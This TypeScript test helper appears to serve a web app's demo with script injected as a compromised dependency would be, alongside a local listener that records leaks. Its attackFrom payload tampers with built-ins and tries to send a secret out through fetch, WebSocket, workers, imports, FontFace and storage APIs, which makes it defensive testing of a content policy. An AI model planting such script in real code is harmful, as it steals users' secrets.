/**
 * The built demo behind a server of the test's own: with script added to the engine, as a compromised dependency would bring it. (Playwright's routing won't do: Chromium treats what it fulfils as of another network and
 * keeps it from reaching servers here, so that a leak would go unseen.) And a server beside it that writes down whatever arrives.
 */
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { existsSync, readFileSync, statSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { extname, join, normalize } from 'node:path';
import { fileURLToPath } from 'node:url';
import { loaderPolicy, pagePolicy } from '../src/worker/content-policy.ts';

const DEMO = fileURLToPath(new URL('../dist-demo', import.meta.url));
const ENGINE = fileURLToPath(new URL('../sealed/engine.js', import.meta.url));
const TYPES: Readonly<Record<string, string>> = {
  '.html': 'text/html',
  '.js': 'text/javascript',
  '.css': 'text/css',
  '.json': 'application/json',
  '.wasm': 'application/wasm',
};

export interface TamperedSite extends AsyncDisposable {
  readonly url: string;
  /** Stands behind the engine's own script, and runs with it from its birth on. */
  script: string;
  /** Of the page, made of the one that it has. */
  policy: (own: string) => string;
}

export async function startTamperedSite(): Promise<TamperedSite> {
  const site = { script: '', policy: (own: string) => own };
  const page = await pagePolicy();
  const server = createServer(({ url = '/' }, response) => {
    const path = new URL(url, 'http://site').pathname;
    const file = join(DEMO, normalize(path === '/' ? '/index.html' : path));
    if (!file.startsWith(DEMO) || !existsSync(file) || !statSync(file).isFile()) {
      response.writeHead(404).end();
      return;
    }
    const isEngine = path.includes('/engine-text-');
    const engine = () => `${readFileSync(ENGINE, 'utf8')}\n;(() => {${site.script}\n})();`;
    response.setHeader('content-type', TYPES[extname(file)] ?? 'application/octet-stream');
    response.setHeader('cross-origin-opener-policy', 'same-origin');
    response.setHeader('cross-origin-embedder-policy', 'require-corp');
    response.setHeader(
      'content-security-policy',
      path.includes('/assets/loader-') ? loaderPolicy() : site.policy(page),
    );
    response.end(isEngine ? `export default ${JSON.stringify(engine())};` : readFileSync(file));
  });
  const url = await listen(server);
  return Object.assign(site, { url, [Symbol.asyncDispose]: () => close(server) });
}

/** Keeps what it finds and spoils what a gate might use; then, on command, tries every way with the secret in hand. */
export const attackFrom = (url: string) => `
  const grab = (get) => { try { return get(); } catch {} };
  const names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'importScripts', 'FontFace', 'Worker', 'SharedWorker',
    'BroadcastChannel', 'indexedDB', 'caches', 'cookieStore', 'webkitRequestFileSystem', 'IDBFactory', 'CacheStorage', 'StorageManager', 'LockManager'];
  const kept = Object.fromEntries(names.map((name) => [name, grab(() => globalThis[name])]));
  for (const name of ['storage', 'locks', 'storageBuckets', 'serviceWorker']) kept[name] = grab(() => navigator[name]);
  Reflect.defineProperty = () => true;
  Reflect.apply = new Proxy(Reflect.apply, {});
  Promise.prototype.then = new Proxy(Promise.prototype.then, {});
  globalThis.attack = async (secret) => {
    const outcome = {};
    const url = '${url}/?' + secret;
    const attempt = async (name, work) => {
      try { outcome[name] = 'OUT ' + String(await Promise.race([work(), new Promise((r) => setTimeout(r, 1500, 'nothing came of it'))])).slice(0, 60); }
      catch (error) { outcome[name] = 'shut: ' + (error && (error.code || error.name) || error); }
    };
    const opened = (request) => new Promise((y, n) => { request.onsuccess = () => y('opened'); request.onerror = () => n(request.error); });
    const blobWorker = (text) => new Promise((y, n) => {
      const worker = new kept.Worker(URL.createObjectURL(new Blob([text])));
      worker.onmessage = ({ data }) => String(data).startsWith('no') ? n(new Error(data)) : y(data);
      worker.onerror = () => n(new Error('error'));
      setTimeout(() => n(new Error('no answer')), 1200);
    });
    await attempt('fetch', () => kept.fetch(url));
    await attempt('fetch without cors', () => kept.fetch(url, { mode: 'no-cors' }));
    await attempt('fetch, kept alive', () => kept.fetch(url, { mode: 'no-cors', keepalive: true, method: 'POST', body: secret }));
    await attempt('XMLHttpRequest', () => new Promise((y, n) => { const x = new kept.XMLHttpRequest(); x.onload = y; x.onerror = () => n(new Error('error')); x.open('GET', url); x.send(); }));
    await attempt('WebSocket', () => new Promise((y, n) => { const s = new kept.WebSocket(url.replace('http', 'ws')); s.onopen = y; s.onerror = () => n(new Error('error')); }));
    await attempt('EventSource', () => new Promise((y, n) => { const s = new kept.EventSource(url); s.onopen = y; s.onerror = () => n(new Error('error')); }));
    await attempt('WebTransport', () => new kept.WebTransport(url.replace('http:', 'https:')).ready);
    await attempt('importScripts', () => kept.importScripts(url));
    await attempt('import()', () => import(url));
    await attempt('import() of JSON', () => import(url + '.json', { with: { type: 'json' } }));
    await attempt('import() of text', () => import(url, { with: { type: 'text' } }));
    await attempt('import() of a style', () => import(url, { with: { type: 'css' } }));
    await attempt('FontFace', () => new kept.FontFace('x', 'url(' + url + ')').load());
    await attempt('Worker', () => new Promise((y, n) => { const w = new kept.Worker(url); w.onmessage = y; w.onerror = () => n(new Error('error')); }));
    await attempt('a worker of a blob that fetches', () => blobWorker('fetch("' + url + '").then(() => postMessage("sent"), (e) => postMessage("no " + e.name))'));
    await attempt('a worker of a blob that stores', () => blobWorker('try { const r = indexedDB.open("loot"); r.onsuccess = () => postMessage("stored"); r.onerror = () => postMessage("no"); } catch (e) { postMessage("no " + e.name); }'));
    await attempt('SharedWorker', () => new kept.SharedWorker(url));
    await attempt('indexedDB', () => opened(kept.indexedDB.open('loot ' + secret)));
    await attempt('IDBFactory', () => opened(IDBFactory.prototype.open.call(kept.indexedDB, 'loot')));
    await attempt('the vault', () => opened(kept.indexedDB.open('e2p-vault-default')));
    await attempt('caches', () => kept.caches.open('loot'));
    await attempt('OPFS', async () => { const root = await kept.storage.getDirectory(); return root.getFileHandle('loot', { create: true }); });
    await attempt('the files of the app in OPFS', () => StorageManager.prototype.getDirectory.call(kept.storage));
    await attempt('a bucket', () => kept.storageBuckets.open('loot'));
    await attempt('a lock', () => kept.locks.request('loot', () => 'held'));
    await attempt('cookieStore', () => kept.cookieStore.set('loot', secret));
    await attempt('a file system of old', () => new Promise((y, n) => kept.webkitRequestFileSystem(0, 1024, y, n)));
    await attempt('BroadcastChannel', () => new kept.BroadcastChannel('loot').postMessage(secret));
    return outcome;
  };`;

export interface Listener extends AsyncDisposable {
  readonly url: string;
  /** `GET /path body` of each request; `SOCKET bytes` of each frame of a WebSocket, unmasked. */
  readonly heard: string[];
}

/** Answers everything to everybody, and a WebSocket too. `/slow` never ends. */
export async function startListener(): Promise<Listener> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    const pieces: Buffer[] = [];
    request.on('data', (piece: Buffer) => pieces.push(piece));
    request.on('end', () => {
      heard.push(`${request.method} ${request.url} ${Buffer.concat(pieces)}`.trim());
      response.writeHead(200, {
        'access-control-allow-origin': '*',
        'cross-origin-resource-policy': 'cross-origin',
        'content-type': 'text/javascript',
      });
      response.write('1');
      if (request.url !== '/slow') response.end();
    });
  });
  server.on('upgrade', ({ headers, url }, socket) => {
    heard.push(`SOCKET ${url}`);
    const key = `${headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`;
    const accept = createHash('sha1').update(key).digest('base64');
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
    );
    // A short masked frame: two bytes of head, four of mask.
    socket.on('data', (frame: Buffer) => {
      const mask = frame.subarray(2, 6);
      heard.push(`SOCKET ${Buffer.from(frame.subarray(6).map((byte, i) => byte ^ mask[i % 4]!))}`);
    });
    socket.on('error', () => socket.destroy());
  });
  const url = await listen(server);
  return { url, heard, [Symbol.asyncDispose]: () => close(server) };
}

async function listen(server: Server): Promise<string> {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return `http://localhost:${(server.address() as AddressInfo).port}`;
}

async function close(server: Server): Promise<void> {
  server.closeAllConnections();
  server.close();
}
